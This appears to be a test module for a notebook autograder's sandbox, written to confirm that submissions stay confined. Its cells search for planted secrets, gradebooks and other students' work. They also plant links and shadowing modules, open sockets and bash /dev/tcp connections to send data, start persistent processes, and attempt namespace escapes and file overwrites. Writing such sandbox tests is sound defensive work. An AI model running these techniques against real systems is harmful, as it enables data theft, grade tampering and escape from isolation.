"""Attacks that reach out: for secrets, for the network, for other submissions, and for what runs
after them. Secrets are recognised by the word CANARY, or as the reference's own text."""

# ruff: noqa: E501 (cells are quoted as they are run)

import os
from collections.abc import Callable

from tests.attacks.attack import FULL, RIGHT_BACKWARD, RIGHT_FORWARD, Attack, Desk

_PREY = """
import glob, os, re, sys
WORD = re.compile('CANA' + r'RY-[\\\\w-]+|\\\\(Z \\\\+ \\\\|Z' + r'\\\\|\\\\) / 2\\\\.')
def tell(where, text):
    if isinstance(text, bytes): text = text.decode('utf-8', 'replace')
    for word in sorted(set(WORD.findall(text))): print(where, word)
def look(path):
    try: tell(path, open(path, 'rb').read(2**24))
    except OSError: pass
def hunt(folder, depth=6):
    for base, folders, names in os.walk(folder):
        if base.count('/') - folder.count('/') > depth or 'site-packages' in base: folders.clear()
        for name in names: look(os.path.join(base, name))
""".replace("\\\\", "\\")


def hunter(name: str, cell: str, **more: object) -> Attack:
    """A cell that looks for prey and prints what it finds; harmless, so it is tried unwalled too."""
    return Attack(name, f"{_PREY}\n{cell}", harmless=True, **more)  # type: ignore[arg-type]


def beside(name: str, lay: Callable[[Desk], None]) -> Attack:
    """Something laid beside a notebook whose cells read everything there is beside them."""
    cell = f"{_PREY}\nhunt('.')\nhunt(os.path.expanduser('~'))\nfor p in glob.glob('**', recursive=True): look(p)"

    def write(desk: Desk) -> None:
        desk.hand_in(desk.notebook(Attack("", cell)))
        lay(desk)

    return Attack(name, write=write, harmless=True)


def linked(what: str, path: str) -> Attack:
    """A symbolic link beside the notebook."""

    def lay(desk: Desk) -> None:
        (desk.folder / "data.csv").symlink_to(path.format(**desk.secrets))

    return beside(f"a symbolic link to {what}", lay)


def hard(desk: Desk) -> None:
    """Hard links beside the notebook: to the gradebook, the secret, another's work."""
    for number, path in enumerate(
        ("{course}/gradebook.db.bak", "{course}/.course_secret", "{victim}")
    ):
        os.link(path.format(**desk.secrets), desk.folder / f"{number}.txt")


def _folder_link(desk: Desk) -> None:
    (desk.folder / "data").symlink_to(desk.secrets["course"], target_is_directory=True)


def _shadowed(desk: Desk) -> None:
    trap = "raise SystemExit\n"
    for name in ("numpy", "nbgrader", "chainrule", "msgpack", "json", "autograder", "conftest"):
        (desk.folder / f"{name}.py").write_text(trap)
    (desk.folder / "numpy").mkdir()
    (desk.folder / "numpy" / "__init__.py").write_text(trap)
    for name in ("sitecustomize.py", "usercustomize.py", "nbgrader_config.py", "x.pth"):
        (desk.folder / name).write_text("import os; os._exit(1)\n")
    startup = desk.folder / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (startup / "00.py").write_text(trap)


def _solved_with_shadows(desk: Desk) -> None:
    desk.hand_in(desk.solved())
    _shadowed(desk)


def _other_kernel(desk: Desk) -> None:
    notebook = desk.notebook(
        Attack("", f"{_PREY}\nhunt(FIELD['course'])\ntell('env', str(os.environ))")
    )
    notebook.metadata.kernelspec = {"name": "python3", "language": "R", "display_name": "R"}
    notebook.metadata.language_info = {"name": "R"}
    desk.hand_in(notebook)


_CONNECT = """
import socket, subprocess
def attempt(family, kind, address):
    try:
        s = socket.socket(family, kind)
        s.settimeout(0.3)
        s.connect(address)
        s.send(b'secret')
    except OSError: pass
"""
_STARTED = """
import ctypes, os, signal, subprocess, sys
marker = FIELD['marker']
def named():
    ctypes.CDLL(None).prctl(15, marker.encode(), 0, 0, 0)
    for s in range(1, 32):
        try: signal.signal(s, signal.SIG_IGN)
        except (OSError, ValueError): pass
    signal.alarm(0)
    import time
    while True: time.sleep(1)
"""
_ESCAPES = """
import ctypes, os, signal
libc = ctypes.CDLL(None)
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000): libc.unshare(flag)
for number in range(3, 64): libc.setns(number, 0)
libc.mount(b'none', b'/proc', b'proc', 0, None); libc.umount2(b'/proc', 2); libc.umount2(b'/', 2)
for call in (lambda: os.setuid(0), lambda: os.chroot('/'), lambda: os.chroot('..'), lambda: os.mknod('sda', 0o60600, 2048)):
    try: call()
    except OSError: pass
for pid in range(2, 2000):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try: os.kill(pid, number)
        except OSError: pass
try: os.kill(-1, signal.SIGSTOP)
except OSError: pass
"""
_WRITES = """
import os
for path in (FIELD['victim'], FIELD['course'] + '/gradebook.db', FIELD['course'] + '/.course_secret', FIELD['project'] + '/autograder/judge.py',
             FIELD['course'] + '/source/05-activations/05-activations.ipynb', FIELD['course'] + '/autograded/zz-witness/05-activations/05-activations.ipynb', np.__file__):
    for way in (lambda: os.makedirs(os.path.dirname(path), exist_ok=True), lambda: open(path, 'a').write(' '), lambda: os.remove(path), lambda: os.chmod(path, 0o777)):
        try: way()
        except OSError: pass
"""
_NOTE = """
import os, tempfile
note = 'CANA' + 'RY-note'
for folder in ('.', '~', '/tmp', '/var/tmp', '/dev/shm', '/space', '/space/work', '/space/tmp', '/guard', '/run', os.path.dirname(np.__file__), tempfile.gettempdir()):
    try: open(os.path.join(os.path.expanduser(folder), 'note.txt'), 'w').write(note)
    except OSError: pass
try: np.note = __import__('chainrule').note = note
except Exception: pass
os.environ['NOTE'] = note
"""

READING = [
    hunter("the course folder by its path", "hunt(FIELD['course'])"),
    hunter("the gradebook by its path", "look(FIELD['course'] + '/gradebook.db')"),
    hunter("the course's secret by its path", "look(FIELD['course'] + '/.course_secret')"),
    hunter("another student's work by its path", "look(FIELD['victim'])"),
    hunter("the reference by its path", "hunt(FIELD['project'] + '/autograder/reference')"),
    hunter("the reference by import", "sys.path[:0] = [FIELD['project'], '/guard']\nimport inspect\nimport autograder.reference.activations as r\ntell('import', inspect.getsource(r))"),
    hunter("the home folder by its path", "hunt(FIELD['home'], 1)"),
    hunter("its own environment and everybody's", "tell('environ', str(dict(os.environ)))\nfor p in glob.glob('/proc/[0-9]*/environ') + ['/proc/self/environ']: look(p)\n!env | grep CANARY-env"),
    hunter("the folders above, step by step", "for n in range(1, 9):\n    for p in glob.glob('../' * n + '*') + glob.glob('../' * n + '*/*'): look(p)"),
    hunter("open files and roots of every process", "for p in glob.glob('/proc/*/fd/*') + glob.glob('/proc/*/root/*') + glob.glob('/proc/*/cwd/*'):\n    if os.path.isfile(p): look(p)"),
    hunter("its own memory", "import gc\nfor o in gc.get_objects():\n    try:\n        if isinstance(o, dict): tell('heap', repr([v for v in o.values() if isinstance(v, (str, bytes)) and 'hunt(folder' not in str(v)]))\n    except Exception: pass"),
    hunter("places where things are left lying", "for f in ('/tmp', '/var/tmp', '/dev/shm', '/run', '/guard', '/space', '/home', '/root', '/srv', '/mnt'): hunt(f, 4)\ntell('note', str(getattr(np, 'note', '')) + os.environ.get('NOTE', ''))"),
]  # fmt: skip
LINKS = [
    linked("the gradebook", "{course}/gradebook.db"),
    linked("the source", "{course}/source/05-activations/05-activations.ipynb"),
    linked("the course's secret", "{course}/.course_secret"),
    linked("another student's work", "{victim}"),
    linked("the reference", "{project}/autograder/reference/activations.py"),
    linked("a file in the home folder", "{home}/.token"),
    beside("a symbolic link to the course folder", _folder_link),
    beside("hard links to secrets", hard),
]
BESIDE = [
    Attack("modules that shadow what a notebook needs, not met", write=_solved_with_shadows, earns=FULL),
    Attack("a kernel of another language, which would run unwalled", write=_other_kernel),
]  # fmt: skip
NETWORK = [
    Attack("TCP", f"{_CONNECT}\nfor host in ('127.0.0.1', '::1', '10.0.2.2', '169.254.169.254', socket.gethostname()): attempt(socket.AF_INET, socket.SOCK_STREAM, (host, FIELD['tcp']))", harmless=True),
    Attack("UDP", f"{_CONNECT}\nfor host in ('127.0.0.1', '255.255.255.255'): attempt(socket.AF_INET, socket.SOCK_DGRAM, (host, FIELD['udp']))", harmless=True),
    Attack("a unix socket in /tmp", f"{_CONNECT}\nattempt(socket.AF_UNIX, socket.SOCK_STREAM, FIELD['unix'])", harmless=True),
    Attack("an abstract socket", f"{_CONNECT}\nattempt(socket.AF_UNIX, socket.SOCK_STREAM, FIELD['abstract'])", harmless=True),
    Attack("DNS, a virtual machine's host, raw sockets, netlink", f"{_CONNECT}\nfor family in (40, 38, 17, 31, 16):\n    attempt(family, socket.SOCK_RAW, (2, FIELD['tcp']))\ntry: socket.getaddrinfo('example.org', 80)\nexcept OSError: pass"),
    Attack("the shell's own way", "!(echo secret > /dev/tcp/127.0.0.1/{FIELD['tcp']}) 2>/dev/null\n!bash -c 'echo secret > /dev/tcp/127.0.0.1/{FIELD[\"tcp\"]}'\n!bash -c 'echo secret > /dev/udp/127.0.0.1/{FIELD[\"udp\"]}'", harmless=True),
]  # fmt: skip
STAYING = [
    Attack("a program in a session of its own", f"{_STARTED}\nsubprocess.Popen(['sleep', marker], start_new_session=True)", RIGHT_FORWARD, RIGHT_BACKWARD, earns=FULL, keeps=True),
    Attack("a process forked twice, that ignores every signal", f"{_STARTED}\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: named()\n    os._exit(0)", RIGHT_FORWARD, RIGHT_BACKWARD, earns=FULL, keeps=True),
    Attack("a process started by the judge's question", _STARTED, "def relu_forward(Z):\n    if os.fork() == 0: os.closerange(0, 99); os.setsid(); named()\n    return np.maximum(Z, 0), Z > 0", RIGHT_BACKWARD, earns=FULL, keeps=True),
    Attack("programs started with nohup, at and cron", "!nohup sleep {FIELD['marker']} >/dev/null 2>&1 &\n!(setsid sleep {FIELD['marker']} &)\n!echo sleep {FIELD['marker']} | at now", RIGHT_FORWARD, RIGHT_BACKWARD, earns=FULL, keeps=True),
    Attack("every way out of the walls", _ESCAPES),
    Attack("writing where others will read", _WRITES),
    Attack("a note for whoever comes next", _NOTE),
]  # fmt: skip

_LISTED = [*BESIDE, *NETWORK, *STAYING, *READING, *LINKS]
ATTACKS = {f"reacher{n:02d}": each for n, each in enumerate(_LISTED)}
